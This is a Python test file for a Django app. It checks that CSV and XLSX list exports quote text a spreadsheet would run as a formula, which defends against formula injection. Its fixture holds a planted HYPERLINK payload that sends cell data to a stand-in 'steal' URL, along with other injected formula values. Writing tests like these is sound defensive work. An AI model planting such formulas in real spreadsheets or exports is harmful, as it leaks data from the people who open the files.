"""Every list's CSV and XLSX download: text that a spreadsheet program would run as a formula
(an indicator title, a person's name, a job title, a risk...) is quoted, so an officer cannot plant a
formula in a file a coordinator opens; plain numbers are left as they are."""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django_tables2.export import ExportMixin
from openpyxl import load_workbook

from escalation.models import Risk
from partnership.views.lists import SafeTableExport

PLANTED = '=HYPERLINK("http://example.org/steal?d="&A1,"Click")'


@pytest.fixture
def planted(tree_a):
    tree_a.indicator.title = PLANTED
    tree_a.indicator.save()
    officer = tree_a.members["officer"]
    officer.user.first_name, officer.user.last_name = "@SUM(A1:A9)", "Smith"
    officer.user.save()
    officer.job_title = "+44 20 7946 0000"
    officer.save()
    chair = tree_a.members["chair"]
    chair.job_title = "-12.5"  # a number typed as text stays a number
    chair.save()
    return tree_a


def csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def xlsx_rows(response):
    assert response["Content-Type"] == SafeTableExport.FORMATS["xlsx"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("read, export", [(csv_rows, "csv"), (xlsx_rows, "xlsx")])
def test_the_indicator_list_quotes_a_planted_formula(as_plain, planted, read, export):
    [row] = read(as_plain.get("/p/alpha/indicators/", {"export": export}))
    assert row["Code"] == "NI 112"
    assert row["Indicator"] == "'" + PLANTED


@pytest.mark.parametrize("read, export", [(csv_rows, "csv"), (xlsx_rows, "xlsx")])
def test_the_people_list_quotes_names_and_job_titles_but_not_numbers(as_plain, planted, read, export):
    rows = read(as_plain.get("/p/alpha/people/", {"export": export}))
    officer = next(row for row in rows if "Smith" in row["Name"])
    assert (officer["Name"], officer["Job title"]) == ("'@SUM(A1:A9) Smith", "'+44 20 7946 0000")
    assert sorted(row["Job title"] for row in rows if row["Job title"] != "Officer") == ["'+44 20 7946 0000", "-12.5"]


def test_the_risk_list_quotes_a_planted_formula(as_plain, escalations_a):
    Risk.objects.filter(pk=escalations_a.risk.pk).update(title="-2+3")
    [row] = csv_rows(as_plain.get("/p/alpha/escalation/risks/", {"export": "csv"}))
    assert row["Risk"] == "'-2+3"


def export_views(patterns=None):
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(pattern, URLResolver):
            yield from export_views(pattern.url_patterns)
        elif isinstance(pattern, URLPattern):
            view = getattr(pattern.callback, "view_class", None)
            if view is not None and issubclass(view, ExportMixin):
                yield view


def test_every_exporting_list_uses_the_safe_export():
    views = set(export_views())
    assert len(views) >= 8  # boards, people, indicators, catalogue, commissions, escalations, risks, actions
    assert all(issubclass(view.export_class, SafeTableExport) for view in views), views
